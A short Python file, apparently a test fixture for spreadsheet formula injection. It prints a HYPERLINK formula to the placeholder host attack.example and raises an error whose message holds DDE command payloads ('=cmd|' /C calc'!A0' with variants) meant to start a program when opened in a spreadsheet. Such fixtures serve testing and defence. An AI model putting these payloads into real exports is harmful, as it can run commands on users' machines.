"""Shows what a spreadsheet would take for a formula."""

# attacks: tally


def main(numbers):
    print('=HYPERLINK("http://attack.example")')
    raise RuntimeError("=cmd|' /C calc'!A0\n@SUM(1+1)*cmd|' /C calc'!A0\t+1\r-1")
